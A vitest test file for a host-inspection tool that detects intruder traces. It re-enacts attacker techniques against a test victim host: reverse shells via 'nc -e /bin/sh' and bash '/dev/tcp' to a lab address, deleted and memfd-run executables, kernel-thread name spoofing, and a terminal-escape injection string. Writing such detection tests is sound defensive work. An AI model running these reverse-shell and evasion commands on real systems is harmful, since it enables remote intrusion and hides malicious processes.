import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { connect, type Host, startHost } from '../../hosts/index.ts';
import { needs } from '../../support/needs.ts';
import { check, type Connection, door, HERE, NEIGHBOUR, signals } from './look.ts';

/** Escape codes, a line break, a quote, a right-to-left mark, an unfinished UTF-8 sequence, and far too much of it. */
const HOSTILE = `\u001B[2J\u001B[31m"x'\n\r\t\u202Eevil) R 1\u0007`;

describe('what intruders leave', needs('host', 'dist', 'package:netcat-traditional', 'package:python3'), () => {
  let host: Host;
  let attacker: Host;
  beforeAll(async () => {
    [host, attacker] = await Promise.all([startHost({ name: 'victim' }), startHost({ name: 'attacker' })]);
    await connect({ host, addresses: HERE }, { host: attacker, addresses: NEIGHBOUR });
  });
  afterAll(() => Promise.all([host?.stop(), attacker?.stop()]));

  /** The connection to a port of the attacker's, once it is there. */
  const connectionTo = async (port: number): Promise<Connection> => {
    const find = async (): Promise<Connection | undefined> =>
      (await check(host)).connections.find(({ peer }) => peer?.port === port);
    await expect.poll(find).toBeDefined();
    return (await find())!;
  };

  test('a reverse shell by nc -e', async () => {
    await attacker.spawn(['nc.traditional', '-l', '-p', '4444']);
    await attacker.listening('tcp', 4444);
    const shell = await host.spawn(['nc.traditional', '-e', '/bin/sh', '198.18.0.2', '4444']);
    const found = await connectionTo(4444);
    expect(found).toMatchObject({ suspicion: 'high', advice: 'investigate', peer: { address: '198.18.0.2' } });
    expect(signals(found)).toContain('streams-on-socket');
    expect(found.holders).toEqual([expect.objectContaining({ pid: shell.pid })]);
    expect((await check(host)).suspicion).toBe('high');
    await shell.kill();
  });

  test('a reverse shell by bash and /dev/tcp', async () => {
    await attacker.spawn(['nc.traditional', '-l', '-p', '4445']);
    await attacker.listening('tcp', 4445);
    const shell = await host.spawn(['bash', '-c', 'exec bash -i >&/dev/tcp/198.18.0.2/4445 0>&1']);
    const found = await connectionTo(4445);
    expect(found).toMatchObject({ suspicion: 'high', advice: 'investigate' });
    expect(signals(found)).toContain('streams-on-socket');
    await shell.kill();
  });

  test('a program whose file was removed', async () => {
    await host.must(['cp', '/bin/nc.traditional', '/usr/local/sbin/updater']);
    const server = await host.spawn(['/usr/local/sbin/updater', '-l', '-p', '7101']);
    await host.listening('tcp', 7101);
    await host.must(['rm', '/usr/local/sbin/updater']);
    const found = door(await check(host), 'tcp', 7101);
    expect(found.processes).toEqual([
      expect.objectContaining({
        pid: server.pid,
        executable: expect.objectContaining({ path: '/usr/local/sbin/updater', deleted: true, memfd: false }),
        package: null,
      }),
    ]);
    expect(signals(found)).toContain('deleted-executable');
    expect(found.suspicion).not.toBe('none');
    await server.kill();
  });

  test('a program that runs from memory', async () => {
    const script = `
import os
fd = os.memfd_create("kworker")
os.write(fd, open("/bin/nc.traditional", "rb").read())
os.execve(fd, ["nc", "-l", "-p", "7102"], {})
`;
    const server = await host.spawn(['python3', '-c', script]);
    await host.listening('tcp', 7102);
    const found = door(await check(host), 'tcp', 7102);
    expect(found.processes[0]?.executable).toMatchObject({ path: 'memfd:kworker', memfd: true });
    expect(signals(found)).toContain('memfd-executable');
    expect(['medium', 'high']).toContain(found.suspicion);
    await server.kill();
  });

  test('a program in /tmp that calls itself a kernel thread', async () => {
    await host.must(['cp', '/usr/bin/python3', '/tmp/.x']);
    const script = `
import socket, signal
open("/proc/self/comm", "w").write("kworker/0:1")
s = socket.create_server(("0.0.0.0", 7103))
signal.pause()
`;
    const server = await host.spawn(['/tmp/.x', '-c', script]);
    await host.listening('tcp', 7103);
    const found = door(await check(host), 'tcp', 7103);
    expect(signals(found)).toEqual(expect.arrayContaining(['kernel-thread-name', 'writable-folder']));
    expect(found).toMatchObject({ suspicion: 'high', advice: 'investigate' });
    await server.kill();
  });

  test('a name made to fool the terminal: JSON holds it, text shows no control character', async () => {
    const script = `
import os, socket, signal, sys
open("/proc/self/comm", "wb").write(sys.argv[1].encode()[:15])
s = socket.create_server(("0.0.0.0", 7104))
signal.pause()
`;
    const folder = `/var/tmp/${HOSTILE}`;
    await host.must(['mkdir', '-p', folder]);
    await host.must(['cp', '/usr/bin/python3', `${folder}/${HOSTILE}`]);
    const arguments_ = ['-c', script, HOSTILE, HOSTILE.repeat(200)];
    const server = await host.spawn([`${folder}/${HOSTILE}`, ...arguments_], { cwd: folder });
    await host.listening('tcp', 7104);
    const found = door(await check(host), 'tcp', 7104);
    expect(found.processes).toEqual([expect.objectContaining({ pid: server.pid, workingFolder: folder })]);
    for (const args of [['check'], ['check', '7104'], ['list'], ['list', '--lang', 'zh']]) {
      const { code, stdout } = await host.menshen(args);
      expect(code).toBe(0);
      expect(stdout).toContain('7104');
      // oxlint-disable-next-line no-control-regex
      expect(stdout).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/);
    }
    await server.kill();
  });
});
